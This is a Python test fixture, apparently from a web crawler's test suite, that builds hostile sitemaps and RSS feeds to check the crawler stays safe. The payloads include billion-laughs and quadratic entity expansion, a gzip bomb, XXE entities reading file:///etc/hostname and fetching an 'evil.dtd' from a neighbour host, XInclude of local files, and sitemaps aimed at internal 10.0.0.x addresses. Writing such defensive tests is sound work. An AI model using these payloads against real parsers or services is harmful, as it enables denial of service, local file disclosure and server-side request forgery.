"""Hostile XML: sitemaps and feeds. They stand among the start addresses, for nothing on the front page leads there."""

from __future__ import annotations

import gzip
from collections.abc import Iterable

from tests.targets.hostile_visit import Page, raw
from tests.targets.hostile_wire import bomb

_MAP = 'xmlns="http://www.sitemaps.org/schemas/sitemap/0.9"'


def xml_pages(base: str, neighbour: str) -> Iterable[Page]:
    """Every hostile sitemap and feed."""

    def start(key: str, outcome: str, note: str, text: str | bytes) -> Page:
        data = text if isinstance(text, bytes) else text.encode()
        return Page(key, f"/{key}.xml", outcome, "xml", note, raw(data, "Content-Type: application/xml"), "start")

    def urls(*addresses: str) -> str:
        return f"<urlset {_MAP}>" + "".join(f"<url><loc>{address}</loc></url>" for address in addresses) + "</urlset>"

    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 12))
    yield start(
        "laughs-map",
        "quiet",
        "a sitemap with a billion laughs",
        f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY l0 "ha">{laughs}]>{urls("&l11;", base + "/item/good-3")}',
    )
    yield start(
        "quadratic-map",
        "quiet",
        "one long entity, repeated 50,000 times",
        f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "{"a" * 50_000}">]>{urls("&a;" * 50_000)}',
    )
    yield start(
        "external-map",
        "quiet",
        "a sitemap whose document type stands elsewhere",
        f'<?xml version="1.0"?><!DOCTYPE urlset SYSTEM "{neighbour}/evil.dtd">{urls(base + "/item/good-4")}',
    )
    yield start(
        "self-map",
        "quiet",
        "a sitemap index that names itself",
        f"<sitemapindex {_MAP}>" + f"<sitemap><loc>{base}/self-map.xml</loc></sitemap>" * 3 + "</sitemapindex>",
    )
    yield start(
        "offsite-map",
        "quiet",
        "a sitemap of 100 addresses on other hosts",
        urls(*(f"http://10.0.0.{n}/item/x{n}" for n in range(100))),
    )
    yield start(
        "neighbour-map",
        "quiet",
        "a sitemap index that leads to the neighbour",
        f"<sitemapindex {_MAP}><sitemap><loc>{neighbour}/map.xml</loc></sitemap></sitemapindex>",
    )
    yield start("broken-map", "quiet", "a sitemap cut off in the middle", urls(base + "/item/good-5")[:-25])
    yield start("deep-map", "error", "100,000 nested elements", "<urlset>" + "<url>" * 100_000)
    yield start("bomb-map", "error", "a packed sitemap that unpacks to 1 GB", bomb())
    yield start("gzip-map", "quiet", "a packed sitemap, to be read", gzip.compress(urls(base + "/item/good-6").encode()))
    yield start("utf16-map", "quiet", "a sitemap in UTF-16", b"\xff\xfe" + urls(base + "/item/good-7").encode("utf-16-le"))
    item = f"<item><title>x</title><link>{base}/item/good-8</link><description>&secret;</description></item>"
    yield start(
        "xxe-feed",
        "quiet",
        "a feed that asks for a local file and for the neighbour",
        '<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY secret SYSTEM "file:///etc/hostname">'
        f'<!ENTITY % remote SYSTEM "{neighbour}/evil.dtd"> %remote;]><rss version="2.0"><channel>{item}</channel></rss>',
    )
    yield start(
        "include-feed",
        "quiet",
        "a feed with XInclude and a stylesheet elsewhere",
        f'<?xml version="1.0"?><?xml-stylesheet href="{neighbour}/x.xsl"?><rss xmlns:xi="http://www.w3.org/2001/XInclude">'
        f'<channel><item><link><xi:include href="file:///etc/hostname" parse="text"/></link></item></channel></rss>',
    )
    yield start("html-feed", "quiet", "HTML where a feed was promised", "<html><body><p>Moved.</p></body></html>")
